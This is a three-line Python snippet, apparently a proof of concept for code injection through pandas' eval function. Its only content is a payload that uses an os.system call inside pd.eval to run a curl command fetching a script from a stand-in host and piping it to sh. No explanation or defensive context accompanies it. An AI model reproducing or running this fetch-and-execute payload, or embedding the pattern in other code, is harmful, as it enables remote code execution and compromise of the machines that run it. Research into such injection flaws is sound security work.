import pandas as pd

pd.eval("@__import__('os').system('curl -s http://collector.invalid/a | sh')", engine="python")
